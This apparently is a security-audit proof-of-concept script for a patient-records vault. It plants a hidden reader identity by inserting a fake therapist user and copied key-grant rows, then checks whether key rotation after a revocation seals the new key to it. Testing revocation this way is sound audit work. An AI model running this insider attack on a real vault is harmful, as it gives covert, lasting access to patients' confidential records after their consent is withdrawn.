#!/usr/bin/python3
# plant-reader.py: finding 3 of issue #17, written from docs/FORMATS.md with
# only the attacker's own passphrase and the vault's files. A supervisor who
# holds a patient's key under a consent adds a users row for a second
# identity whose X25519 key they made, and a patient_keys and a
# details_grants row for it (copies of their own grants), hoping the rotation that follows a revocation seals
# the new key to that identity.
#
#   plant-reader.py plant VAULT USER PASSPHRASE-FILE PATIENT-ID KEY-OUT
#   plant-reader.py check VAULT USER PASSPHRASE-FILE PATIENT-ID KEY-IN
#
# "check" prints the patient's key version and whether the planted key
# opens a grant of it.
import importlib.util
import os
import sys
import time

import nacl.bindings as sodium

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def main(argv):
    command, vault, user_name, passphrase_file, patient_id, key_file = argv[1:7]
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])
    if command == "plant":
        planted = os.urandom(16).hex()
        public, secret = sodium.crypto_box_keypair()
        sign_pk, _ = sodium.crypto_sign_keypair()
        with open(key_file, "wb") as f:
            f.write(planted.encode() + public + secret)
        db.rows("INSERT INTO users (id, name, role, box_pk, sign_pk, created) VALUES "
                "('%s', 'Dr Shadow', 'therapist', x'%s', x'%s', %d);\n"
                "INSERT INTO patient_keys (patient_id, key_version, user_id, sealed_key, "
                "granted_by, granted_at, signature) SELECT patient_id, key_version, '%s', "
                "sealed_key, granted_by, granted_at, signature FROM patient_keys "
                "WHERE patient_id = '%s' AND user_id = '%s';\n"
                "INSERT INTO details_grants (patient_id, key_version, user_id, consent_id, "
                "sealed_key, granted_by, granted_at, signature) SELECT patient_id, key_version, "
                "'%s', consent_id, sealed_key, granted_by, granted_at, signature "
                "FROM details_grants WHERE patient_id = '%s' AND user_id = '%s'"
                % (planted, public.hex(), sign_pk.hex(), int(time.time()), planted, patient_id,
                   me["id"], planted, patient_id, me["id"]))
        print("planted: a reader row for a second identity")
        return 0
    with open(key_file, "rb") as f:
        data = f.read()
    planted, public, secret = data[:32].decode(), data[32:64], data[64:96]
    version = db.rows("SELECT key_version FROM patients WHERE id = '%s'" % patient_id)[0][0]
    print("key version: %s" % version)
    # A supervisor holds the details key, not the patient key (schema 8):
    # either carried to the planted reader would do.
    sealed = db.rows("SELECT hex(sealed_key) FROM patient_keys WHERE patient_id = '%s' "
                     "AND key_version = %s AND user_id = '%s' UNION ALL "
                     "SELECT hex(sealed_key) FROM details_grants WHERE patient_id = '%s' "
                     "AND key_version = %s AND user_id = '%s'"
                     % (patient_id, version, planted, patient_id, version, planted))
    if not sealed:
        print("refused: no grant of the new key to the planted reader")
        return 0
    try:
        sodium.crypto_box_seal_open(bytes.fromhex(sealed[0][0]), public, secret)
        print("opened: the new key was sealed to the planted reader")
    except Exception:
        print("refused: the planted key does not open the new grant")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
